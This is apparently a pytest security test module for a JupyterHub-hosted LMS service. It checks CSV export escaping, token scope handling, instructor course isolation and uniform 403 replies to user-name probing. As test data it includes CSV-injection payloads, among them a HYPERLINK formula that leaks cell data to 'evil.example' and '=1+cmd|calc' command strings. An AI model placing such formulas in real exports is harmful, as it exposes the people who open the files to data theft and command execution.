"""Attacks on what the LMS service shows: CSV injection through names and answers, an admin's
lesson server token used as an admin, an instructor reading another course, a learner probing
user names.

A real hub runs the service (SQLite); the admin's server token is read from a real lesson
container, the dashboard is reached through the hub's real OAuth login.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import time
import uuid

import pytest
import requests

from lms_extension.service.exports import safe_cell

from ..hubctl import Hub
from ..service.conftest import Lms, event
from ..spawn.accounts import admin_login, login

ADMIN = "ada"
INSTRUCTOR = "tina"  # teaches cohort-a (dl-basics), not cohort-c (policy-check)
FORMULA_NAME = "=1+cmd|calc"
FORMULA_GROUP = "@sum-cohort"
FORMULA_ANSWER = '=HYPERLINK("https://evil.example/?leak="&A2,"details")'
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def school(docker_engine, content_remote, run_id, tmp_path_factory):
    hub = Hub(tmp_path_factory.mktemp("access-hub"), str(content_remote), f"{run_id}-acc",
              {"LMS_COHORTS": "cohort-a,cohort-c", "LMS_ADMIN_USERS": ADMIN})
    hub.start()
    lms = Lms(hub)
    deadline = time.monotonic() + 60
    while not (r := lms.call("GET", "/content", "admin")).ok or not r.json()["version"]:
        if time.monotonic() > deadline:
            hub.stop()
            raise AssertionError(f"no content published:\n{hub.log_tail(80)}")
        time.sleep(0.3)
    # the instructor signs up through the hub's form, then joins the instructors' group
    lms.teacher = login(hub.url, INSTRUCTOR)
    lms.group("cohort-a", "amy", "bob", FORMULA_NAME)
    lms.group("cohort-c", "cyd")
    lms.group(FORMULA_GROUP, FORMULA_NAME)
    lms.group("cohort-a-instructors", INSTRUCTOR)
    for group, course in (("cohort-a", "dl-basics"), ("cohort-c", "policy-check"),
                          (FORMULA_GROUP, "dl-basics")):
        r = lms.call("PUT", f"/cohorts/{group}", "admin",
                     json={"course": course, "start": "2026-01-01T00:00:00Z"})
        assert r.status_code == 200, r.text
    lms.events(FORMULA_NAME, event("lesson_opened", "python-basics"))
    r = lms.call("PUT", "/surveys/dl-basics/python-basics", FORMULA_NAME, json={"answers": {
        "difficulty": 2, "pace": "too fast", "comments": FORMULA_ANSWER}})
    assert r.status_code == 200, r.text
    lms.call("PUT", "/surveys/dl-basics/python-basics", "amy", json={"answers": {
        "difficulty": 4, "comments": "\t=cmd() after a tab"}})
    yield lms
    hub.stop()


def service_page(session: requests.Session, lms: Lms, path: str) -> requests.Response:
    return session.get(f"{lms.hub.service_url('lms')}/{path}", timeout=30)


# -- CSV injection ---------------------------------------------------------------------------

def csv_rows(response: requests.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text[-500:]
    assert response.headers["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text)))


def test_csv_exports_never_start_a_cell_with_a_formula(school):
    admin = admin_login(school.hub, ADMIN)
    progress = csv_rows(service_page(admin, school, "courses/dl-basics/progress.csv"))
    answers = csv_rows(service_page(
        admin, school, "courses/dl-basics/surveys/python-basics/answers.csv"))
    for row in progress + answers:
        for cell in row:
            assert not cell.startswith(DANGEROUS_START), (cell, row)
    learners = {row[0]: row for row in progress}
    assert "'" + FORMULA_NAME in learners, learners.keys()
    assert learners["'" + FORMULA_NAME][1] == "'" + FORMULA_GROUP + " cohort-a"
    by_learner = {row[0]: row for row in answers}
    header = answers[0]
    comments = header.index("comments")
    assert by_learner["'" + FORMULA_NAME][comments] == "'" + FORMULA_ANSWER
    assert by_learner["amy"][comments] == "'\t=cmd() after a tab"


@pytest.mark.parametrize("text", ["=SUM(A1)", "+1", "-1+2", "@cmd", "\t=1", "\r=1", "\uff1d1"])
def test_every_formula_start_is_neutralised(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell(["=a", "b"]) == "'=a; b"
    assert safe_cell("plain =1") == "plain =1" and safe_cell(None) == ""


# -- admin rights only with a token issued for the service -------------------------------------

def server_token(hub: Hub, user: str) -> str:
    """The API token the hub gave the user's running lesson server (from its container)."""
    state = hub.api("GET", f"/users/{user}").json()["servers"][""]["state"]
    container = state.get("object_id") or state["container_id"]
    env = subprocess.run(["docker", "inspect", "--format",
                          "{{range .Config.Env}}{{println .}}{{end}}", container],
                         capture_output=True, text=True, check=True).stdout
    return re.search(r"^JUPYTERHUB_API_TOKEN=(\S+)$", env, re.MULTILINE).group(1)


def test_an_admins_server_token_is_a_learner_to_the_service(school):
    hub = school.hub
    r = hub.start_lesson(ADMIN, "dl-basics/python-basics")
    assert r.status_code in (201, 202), r.text
    try:
        hub.wait_ready(ADMIN)
        token = server_token(hub, ADMIN)
        owner = hub.api("GET", "/user", token=token).json()
        assert owner["name"] == ADMIN and owner["admin"] is True
        assert "access:services!service=lms" in owner["scopes"]
        as_server = {"Authorization": f"token {token}"}
        api = school.api_url
        me = requests.get(f"{api}/", headers=as_server, timeout=30).json()["viewer"]
        assert me == {"name": ADMIN, "admin": False, "instructor": False}
        for method, path in (("POST", "/content/sync"), ("POST", "/deadlines/run"),
                             ("GET", "/courses/dl-basics/progress"), ("GET", "/progress/amy"),
                             ("GET", "/surveys/dl-basics/python-basics/results"),
                             ("DELETE", "/cohorts/cohort-a")):
            r = requests.request(method, f"{api}{path}", headers=as_server, timeout=30)
            assert r.status_code == 403, (method, path, r.status_code, r.text)
    finally:
        hub.stop_server(ADMIN)
    # the same admin's dashboard login (the service's OAuth token) is an admin there
    page = service_page(admin_login(hub, ADMIN), school, "courses/dl-basics")
    assert page.status_code == 200 and f"{ADMIN} (admin)" in page.text
    assert ">amy<" in page.text and ">cyd<" not in page.text  # cyd is in policy-check


def test_a_learners_own_token_holds_the_admin_scope_but_no_admin_rights(school):
    token = school.token("bob")
    scopes = school.hub.api("GET", "/user", token=token).json()["scopes"]
    assert "custom:lms:admin" in scopes
    assert school.call("POST", "/content/sync", "bob").status_code == 403
    assert school.call("GET", "/", "bob").json()["viewer"]["admin"] is False


# -- instructors read only the courses of their cohorts ----------------------------------------

def test_an_instructor_cannot_read_another_course(school):
    for path in ("/courses/policy-check/progress", "/surveys/policy-check/markup/results",
                 "/progress/cyd"):
        r = school.call("GET", path, INSTRUCTOR)
        assert r.status_code == 403, (path, r.status_code, r.text)
        assert INSTRUCTOR in r.json()["message"]
    assert school.call("GET", "/courses/dl-basics/progress", INSTRUCTOR).status_code == 200
    assert school.call("GET", "/progress/amy", INSTRUCTOR).status_code == 200
    teacher = school.teacher
    for path in ("courses/policy-check", "courses/policy-check/progress.csv",
                 "courses/policy-check/surveys/markup",
                 "courses/policy-check/surveys/markup/answers.csv"):
        assert service_page(teacher, school, path).status_code == 403, path
    home = service_page(teacher, school, "")
    assert 'href="/services/lms/courses/dl-basics"' in home.text
    assert "courses/policy-check" not in home.text
    assert service_page(teacher, school, "courses/dl-basics").status_code == 200


# -- user names are not probed through the service ---------------------------------------------

def hub_lookups(hub: Hub, since: int) -> list[str]:
    """The hub API calls the LMS service made after log offset ``since``."""
    log = hub.log_path.read_text(errors="replace")[since:]
    return [line for line in log.splitlines() if "/hub/api/" in line and "(lms@" in line]


@pytest.mark.parametrize("who", ["amy", INSTRUCTOR])
def test_probing_user_names_gets_403_without_asking_the_hub(school, who):
    school.token(who)
    school.call("GET", "/", who)  # the caller's own token is looked up once, beforehand
    hub = school.hub
    ghost = f"ghost-{uuid.uuid4().hex[:8]}"
    since = len(hub.log_path.read_text(errors="replace"))
    answers = {}
    for name in ("cyd", ghost, ADMIN):
        r = school.call("GET", f"/progress/{name}", who)
        answers[name] = (r.status_code, r.json()["message"].replace(name, "NAME"))
    assert set(answers.values()) == {(403, f"{who} may not see the progress of NAME")}, answers
    asked = hub_lookups(hub, since)
    assert not [line for line in asked if "/users/" in line], asked
